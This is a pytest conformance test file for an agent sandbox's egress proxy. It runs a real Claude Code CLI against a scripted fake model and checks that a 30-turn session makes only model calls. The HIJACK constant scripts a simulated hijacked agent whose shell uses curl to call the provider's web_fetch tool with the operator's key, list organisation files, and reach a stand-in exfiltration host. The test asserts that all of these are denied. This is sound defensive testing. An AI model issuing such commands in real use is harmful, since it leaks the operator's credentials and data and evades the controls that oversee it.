"""The real Claude Code CLI's own traffic, by design (tests/conformance.py's world: the
bundled CLI in the packaged agent image, through ``kagura-agent apply``, the model played
by testing/fake_messages_api.py behind the run's key-injecting port).

- With its optional traffic off (plan brain.cli_environment) and the model host reached
  only through the port, a 30-turn session crosses the proxy with model calls and nothing
  else: no denied egress at all, and its 30-turn budget holds its 30 turns.
- A hijacked session that tries a way out (the provider asked to fetch for it, another
  host) trips the denied-egress tripwire, and nothing it asked for reaches the model.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from conformance import (
    agent_calls,
    apply,
    apply_argv,
    dump,
    egress_decisions,
    env,
    model,
    summary,
    task,
)

from testing.agent_test_image import ensure_agent_test_image
from testing.egress_images import ensure_egress_images

pytestmark = [pytest.mark.usefixtures("docker_client"), pytest.mark.conformance]

TURNS = 30


@pytest.fixture(scope="module")
def images(docker_client: Any) -> tuple[str, str]:
    real = ensure_agent_test_image(docker_client, real_cli=True)
    return real, ensure_egress_images(docker_client)["base"]


def _bash(command: str) -> dict[str, Any]:
    return {"tools": [{"name": "Bash", "input": {"command": command, "description": "step"}}]}


def test_a_30_turn_session_crosses_the_proxy_with_model_calls_only(
    docker_client: Any, images: tuple[str, str], tmp_path: Path, state_dir: Path
) -> None:
    real, base = images
    steps = [_bash(f"echo {n} >> steps.txt") for n in range(TURNS - 1)]
    script = {"conversations": [{"match": "TASK-LONG", "turns": [*steps, {"text": "all done"}]}]}
    with model(docker_client, base, script) as fake:
        folder, task_file, project = task(
            tmp_path,
            real,
            {
                "prompt": "TASK-LONG: count to thirty",
                "brain": "claude-long",
                "verify": [f"test $(wc -l < steps.txt) -eq {TURNS - 1}"],
            },
            {
                "kind": "Brain",
                "metadata": {"name": "claude-long"},
                "spec": {
                    "engine": "sdk",
                    "model": "claude-sonnet-4-5",
                    "permission_mode": "bypassPermissions",
                    "runtime": "container",
                    "auth": {"mode": "api-key", "credential": "anthropic"},
                    "budget": {"turns": TURNS, "wall_time": "10m"},
                },
            },
        )
        code, result, _lines, err = apply(
            apply_argv(folder, task_file), env(state_dir, fake), timeout=600
        )
        calls = agent_calls(fake)
    decisions = egress_decisions(state_dir, result.get("run_id", ""))
    assert code == 0, err[-5000:]
    assert result["outcome"] == "success" and len(calls) == TURNS, dump(result)
    # 30 turns on a 30-turn budget: the port counted each call once, as a turn.
    assert result["model_calls"] == TURNS and result["turns"] == TURNS
    # No denied egress at all; nothing but model calls, all through the injecting port.
    assert [d for d in decisions if d["decision"] == "deny"] == [], summary(decisions)
    assert {(d["inport"], d["path"], d["reason"]) for d in decisions} == {
        (3129, "/v1/messages", "injected")
    }, summary(decisions)
    assert (project / "steps.txt").read_text().count("\n") == TURNS - 1


# A hijacked session: its model has the agent's shell ask the provider to fetch a URL
# with the operator's key, list the organisation's files, and reach a host nobody
# allowed. Each is refused; together they trip the denied-egress tripwire.
HIJACK = (
    "for i in 1 2 3; do"
    " curl -s -o /dev/null -w '%{http_code} ' -X POST -H 'content-type: application/json'"
    ' -d \'{"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}],'
    ' "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}\''
    ' "$ANTHROPIC_BASE_URL/v1/messages";'
    ' curl -s -o /dev/null -w "%{http_code} " "$ANTHROPIC_BASE_URL/v1/files";'
    " curl -s -o /dev/null -w '%{http_code} ' https://exfil.example.net/;"
    " done; sleep 30"
)


def test_a_real_hijack_attempt_trips(
    docker_client: Any, images: tuple[str, str], tmp_path: Path, state_dir: Path
) -> None:
    real, base = images
    script = {"conversations": [{"match": "TASK-HIJACK", "turns": [_bash(HIJACK)]}]}
    with model(docker_client, base, script) as fake:
        folder, task_file, _ = task(
            tmp_path,
            real,
            {"prompt": "TASK-HIJACK: tidy up", "brain": "claude-yolo"},
            {
                "kind": "Brain",
                "metadata": {"name": "claude-yolo"},
                "spec": {
                    "engine": "sdk",
                    "model": "claude-sonnet-4-5",
                    "permission_mode": "bypassPermissions",
                    "runtime": "container",
                    "auth": {"mode": "api-key", "credential": "anthropic"},
                    "budget": {"turns": 10, "wall_time": "5m"},
                },
            },
        )
        code, result, _lines, err = apply(apply_argv(folder, task_file), env(state_dir, fake))
        records = fake.records()
    decisions = egress_decisions(state_dir, result.get("run_id", ""))
    assert code != 0 and result["outcome"] == "failed", dump(result)
    assert "hijack tripwire" in err and "denied egress requests" in err, err[-3000:]
    reasons = {d["reason"] for d in decisions if d["decision"] == "deny"}
    assert {"server-tool", "not-model-call"} <= reasons, summary(decisions)
    # Nothing the hijack asked for reached the model: only the session's own call did.
    assert all("web_fetch" not in str(r.get("body")) for r in records), dump(records)
    assert all(r["path"].startswith("/v1/messages") for r in records if r["method"] == "POST")
